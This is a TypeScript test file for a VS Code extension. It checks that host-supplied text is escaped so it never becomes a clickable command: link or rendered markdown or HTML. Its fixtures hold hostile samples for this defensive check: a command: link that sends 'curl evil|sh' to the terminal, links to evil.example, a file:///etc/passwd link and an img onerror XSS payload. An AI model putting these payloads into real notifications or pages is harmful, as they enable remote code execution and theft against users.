// A host's text must not become a clickable `command:` link in a notification, nor markdown in a hover. The oracle is VS Code's own
// link parser: the regex of vs/base/common/linkedText.ts, read from the installed code-server's workbench
// when it is there (the copy below is checked against it), else the copy, as quoted from that source.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { createRequire } from 'node:module';
import { existsSync, readFileSync } from 'node:fs';
import { homedir } from 'node:os';
import { join } from 'node:path';
import { linkSafe, markdownEscaped } from '../../../src/core/text/linkSafe';

// eslint-disable-next-line no-useless-escape -- verbatim from VS Code, compared with the installed one
const COPY = /\[([^\]]+)\]\(((?:https?:\/\/|command:|file:)[^\)\s]+)(?: (["'])(.+?)(\3))?\)/gi;
const WORKBENCH = join(
  process.env.RFT_CACHE ?? join(homedir(), '.cache/remote-finetune'),
  'code-server-4.100.3/node_modules/code-server/lib/vscode/out/vs/code/browser/workbench/workbench.js',
);

function vscodeLinkRegex(): RegExp {
  if (!existsSync(WORKBENCH)) {
    console.log(`# linkSafe: ${WORKBENCH} not installed; using the regex as quoted from linkedText.ts`);
    return COPY;
  }
  const src = readFileSync(WORKBENCH, 'utf8');
  const m = /=(\/\\\[\(\[\^\\\]\]\+\)\\\]\\\(.*?\/gi);/.exec(src);
  assert.ok(m, 'the link regex was not found in the installed workbench');
  const installed = new Function(`return ${m[1]}`)() as RegExp;
  assert.equal(installed.source, COPY.source, 'VS Code changed its link syntax: review linkSafe');
  return installed;
}

const links = (text: string): string[] => [...text.matchAll(new RegExp(vscodeLinkRegex().source, 'gi'))].map((x) => x[2]!);

test('linkSafe: host text with command:, https: and file: links renders as plain text', () => {
  const hostile = [
    'Training failed: [Click to fix](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil%7Csh%5Cn%22%7D)',
    'see [docs](https://evil.example/x "title")',
    'open [log](file:///etc/passwd)',
    'nested [[a]](command:x) and [b] (command:y)',
  ];
  for (const h of hostile) {
    assert.ok(links(h).length > 0 || /\] \(/.test(h), `the raw text is a link for VS Code: ${h}`);
    assert.deepEqual(links(linkSafe(h)), [], h);
    assert.equal(linkSafe(h).replace(/\u200B/g, ''), h, 'nothing else changes');
  }
  assert.equal(linkSafe('[127.0.0.1]:2222 refused'), '[127.0.0.1]:2222 refused');
});

// The markdown oracle: markdown-it (CommonMark, as VS Code's hovers render it) with HTML and linkify on, the
// most a renderer would turn into tags.
type MarkdownIt = { render(src: string): string };
const markdownIt = (createRequire(__filename)('markdown-it') as (o: object) => MarkdownIt)({ html: true, linkify: true });
const renderedText = (html: string): string =>
  html
    .replace(/^<p>|<\/p>\n$/g, '')
    .replace(/<br>\n/g, '\n')
    .replace(/&lt;/g, '<')
    .replace(/&gt;/g, '>')
    .replace(/&quot;/g, '"')
    .replace(/&amp;/g, '&');

test('markdownEscaped: document and host text renders as itself, with no link, tag or formatting', () => {
  const hostile = [
    '[x](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil%7Csh%5Cn%22%7D)',
    '<img src=x onerror=alert(1)> <a href="command:x">y</a> &lt;b&gt; &#x5B;',
    'https://evil.example/x www.evil.example <command:x> <https://evil.example>',
    '**bold** _em_ `code` ~~del~~ # head\n- item\n1. one\n> quote\n| a | b |\n|---|---|\n    indented',
    '![img](https://evil.example/p.png) [ref]: https://evil.example \\[already\\]',
    'lr_2e-5 / max.grad_norm = 1.0',
  ];
  for (const h of hostile) {
    const html = markdownIt.render(markdownEscaped(h));
    assert.doesNotMatch(html.replace(/<\/?p>|<br>/g, ''), /<[a-z/]/i, `no tag from: ${h}\n${html}`);
    assert.equal(
      renderedText(html)
        .replace(/\n$/, '')
        .replace(/\u00a0/g, ' '),
      h.replace(/\t/g, ' '),
      'shown exactly as written',
    );
  }
  // A raw key would be a link: the test proves its oracle sees one.
  assert.match(markdownIt.render(hostile[0]!), /<a href=/);
});
